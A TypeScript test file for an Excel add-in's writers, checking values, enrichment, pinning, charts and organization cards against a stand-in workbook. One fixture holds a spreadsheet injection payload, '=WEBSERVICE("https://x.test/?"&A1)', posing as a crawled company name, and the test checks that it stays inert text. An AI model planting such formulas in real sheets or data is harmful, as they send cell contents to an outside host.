/**
 * The Excel writers (addin/excel-actions.ts) against the STAND-IN for Excel (workbook-stand-in.ts; Excel
 * cannot run here): they reach the stand-in's workbook only through Office.js-like proxies — writes
 * land at a sync, and a property read without a load fails as in Excel — and the tests check what
 * reached the workbook.
 */
import { errorCell } from '../../src/sheet/cells.js';
import { createEngine, generateDataset } from '../../src/engine/index.js';
import { localBackend } from '../../src/sheet/backend.js';
import { ResultCache } from '../../src/sheet/cache.js';
import { SheetFunctions } from '../../src/sheet/functions.js';
import { insertChart, insertFormula, insertMapChart, insertValues, pinSelection, readSelectedColumn, writeBeside, writeCards } from '../../addin/excel-actions.js';
import { StandInWorkbook, type WorkbookSheet } from './workbook-stand-in.js';

const index = createEngine(generateDataset({ count: 2_000, seed: 5, asOf: '2026-11-01' }));
const functions = new SheetFunctions({
  backend: () => localBackend(() => index),
  cache: new ResultCache({ now: () => 0 }),
  schedule: (run, ms) => {
    setTimeout(run, ms);
  },
});

let workbook: StandInWorkbook;
let sheet: WorkbookSheet;

beforeEach(() => {
  workbook = new StandInWorkbook(['Sheet1']);
  workbook.install();
  sheet = workbook.sheet('Sheet1');
  workbook.selection = sheet.area('B2');
});

test('values stay what the service said: a crawled "=…" name stays text, codes keep their zeros and dots, numbers stay numbers', async () => {
  const range = await insertValues(
    [
      ['domain', 'name', 'nace_code', 'municipality_code', 'employees'],
      ['evil.example', '=WEBSERVICE("https://x.test/?"&A1)', '38.10', '06635003', 12],
      ['plain.example', errorCell('#N/A', 'not in the index'), '', null, 3],
    ],
    true,
  );
  expect(range.address).toBe('Sheet1!B2:F4');
  expect(sheet.cell(2, 2).formula).toBeUndefined();
  expect(sheet.cell(2, 2).value).toBe('=WEBSERVICE("https://x.test/?"&A1)');
  expect(sheet.cell(2, 3).value).toBe('38.10');
  expect(sheet.cell(2, 4).value).toBe('06635003');
  expect(sheet.cell(2, 5)).toEqual({ value: 12, format: 'General' });
  expect(sheet.cell(3, 2).value).toBe('#N/A not in the index');
  expect(sheet.tables).toEqual([{ name: 'Table1', address: 'Sheet1!B2:F4', hasHeaders: true }]);
});

test('enrichment reads the selected column cut to the used range, then writes beside it, chunk by chunk', async () => {
  for (let r = 1; r <= 4; r++) sheet.cell(r, 0).value = `d${r}.example`;
  sheet.cell(0, 3).value = 'a note further right';
  workbook.selection = { sheet, row: 0, column: 0, rows: 1_048_576, columns: 1 };
  const column = await readSelectedColumn();
  expect(column).toEqual({ address: 'Sheet1!A1:A5', values: ['', 'd1.example', 'd2.example', 'd3.example', 'd4.example'] });
  await writeBeside(column.address, 3, [['Name 3', '0042'], ['Name 4', 'DE']]);
  expect(sheet.valuesAt('B4:C5')).toEqual([['Name 3', '0042'], ['Name 4', 'DE']]);
  expect(sheet.cell(3, 2).format).toBe('@');

  workbook.selection = sheet.area('F1:F9');
  expect(await readSelectedColumn()).toEqual({ address: '', values: [] });
});

test('Pin as values, from any cell of a spill, pins the whole spill and keeps number formats', async () => {
  sheet.spills.push({ row: 1, column: 1, rows: 3, columns: 2 });
  for (let r = 1; r <= 3; r++) {
    sheet.cell(r, 1).value = `org${r}.example`;
    sheet.cell(r, 2).value = 40_000 + r;
    sheet.cell(r, 2).format = 'yyyy-mm-dd';
  }
  sheet.cell(1, 1).formula = '=ORG.SEARCH("solar")';
  workbook.selection = sheet.area('C3');
  await pinSelection();
  expect(sheet.cell(1, 1)).toEqual({ value: 'org1.example', format: '@' });
  expect(sheet.cell(3, 2)).toEqual({ value: 40_003, format: 'yyyy-mm-dd' });
});

test('Pin as values on cells outside the used range (below the data, or on a blank sheet) leaves the sheet as it was', async () => {
  sheet.cell(1, 1).value = 'org1.example';
  workbook.selection = sheet.area('B9:C12');
  await pinSelection();
  const blank = new StandInWorkbook(['Empty']);
  blank.install();
  blank.selection = blank.sheet('Empty').area('D4');
  await pinSelection();
  expect([...sheet.cells.values()].filter((cell) => cell.value !== '' || cell.format !== 'General')).toEqual([{ value: 'org1.example', format: 'General' }]);
  expect(blank.sheet('Empty').usedArea()).toBeNull();
});

test('formula, chart', async () => {
  await insertFormula('=ORG.STATS("country")');
  expect(sheet.cell(1, 1).formula).toBe('=ORG.STATS("country")');
  workbook.selection = sheet.area('A6');
  await insertChart([['organization_type', 'count'], ['Company', 10]], 'Organizations by organization_type');
  expect(sheet.charts).toEqual([{ name: 'Chart 1', type: 'ColumnClustered', source: 'Sheet1!A6:B7', seriesBy: 'Columns', title: 'Organizations by organization_type' }]);
});

test('map chart: the counts by state and Excel\'s filled map of them; an Excel before 1.9 is told why not, and nothing is written', async () => {
  const table = index.stats({ group_by: 'state', limit: 20 }).data.map((bucket) => [bucket.state as string, bucket.count]);
  workbook.selection = sheet.area('D2');
  await insertMapChart([['state', 'count'], ...table], 'Organizations by state');
  expect(sheet.charts).toEqual([{ name: 'Chart 1', type: 'RegionMap', source: `Sheet1!D2:E${2 + table.length}`, seriesBy: 'Columns', title: 'Organizations by state' }]);
  workbook.excelApi = '1.8';
  workbook.selection = sheet.area('H2');
  await expect(insertMapChart([['state', 'count'], ...table], 'Organizations by state')).rejects.toThrow(/cannot draw map charts/);
  expect(sheet.peek(1, 7).value).toBe('');
  expect(sheet.charts).toHaveLength(1);
});

describe('organization cards (ExcelApi 1.16)', () => {
  const known = index.search({ filters: { organization_type: ['Company'] }, columns: ['domain', 'name'], size: 3 }).data;

  /** Convert domains to organizations, as the task pane does it: the selected column, its cards, written in place. */
  async function convert(): Promise<{ address: string; written: number }> {
    const selection = await readSelectedColumn();
    const written = await writeCards(selection.address, 0, await functions.cardsStrict(selection.values.map((value) => [value])));
    return { address: selection.address, written };
  }

  test('Convert replaces each known domain by its card; blanks, text that is no domain, unknown domains and formulas stay as they were', async () => {
    const [a, b, c] = known;
    const inputs = [`https://${a?.domain ?? ''}/`, '', 'not a domain', 'unknown-convert.example', b?.domain ?? '', c?.domain ?? ''];
    inputs.forEach((value, i) => (sheet.cell(1 + i, 1).value = value));
    sheet.cell(4, 1).formula = '="unknown-convert"&".example"';
    // A formula that shows a known domain keeps its formula: a card would replace it.
    sheet.cell(7, 1).formula = '=LOWER(Z1)';
    workbook.selection = sheet.area('B2:B7');
    expect(await convert()).toEqual({ address: 'Sheet1!B2:B7', written: 3 });
    workbook.selection = sheet.area('B2:B8');
    sheet.cell(7, 1).value = a?.domain ?? '';
    expect(await convert()).toEqual({ address: 'Sheet1!B2:B8', written: 0 });
    const cells = [0, 1, 2, 3, 4, 5, 6].map((i) => sheet.peek(1 + i, 1));
    expect(cells.map((cell) => cell.json?.text)).toEqual([a?.name, undefined, undefined, undefined, b?.name, c?.name, undefined]);
    // Cards read back as "#VALUE!" through values, as Excel documents it; the rest is untouched, formulas included.
    expect(cells.map((cell) => cell.value)).toEqual(['#VALUE!', '', 'not a domain', 'unknown-convert.example', '#VALUE!', '#VALUE!', a?.domain]);
    expect(cells[3]?.formula).toBe('="unknown-convert"&".example"');
    expect(cells[6]?.formula).toBe('=LOWER(Z1)');
    expect(cells[0]?.json).toMatchObject({ type: 'Entity', basicType: 'Error', properties: { domain: { basicValue: a?.domain }, name: { basicValue: a?.name } } });
  });

  test('Pin as values keeps cards as cards and turns the formulas around them into values', async () => {
    sheet.cell(1, 1).value = known[0]?.domain ?? '';
    workbook.selection = sheet.area('B2');
    await convert();
    const card = sheet.peek(1, 1).json;
    sheet.cell(1, 2).formula = '=B2.name';
    sheet.cell(1, 2).value = known[0]?.name ?? '';
    workbook.selection = sheet.area('B2:C2');
    await pinSelection();
    expect(sheet.peek(1, 1).json).toEqual(card);
    expect(sheet.peek(1, 2)).toEqual({ value: known[0]?.name, format: '@' });
  });

  test('below ExcelApi 1.16 Pin as values works as before, without touching valuesAsJson', async () => {
    workbook.excelApi = '1.15';
    sheet.cell(1, 1).formula = '=1+1';
    sheet.cell(1, 1).value = 2;
    workbook.selection = sheet.area('B2');
    await pinSelection();
    expect(sheet.peek(1, 1)).toEqual({ value: 2, format: 'General' });
  });
});
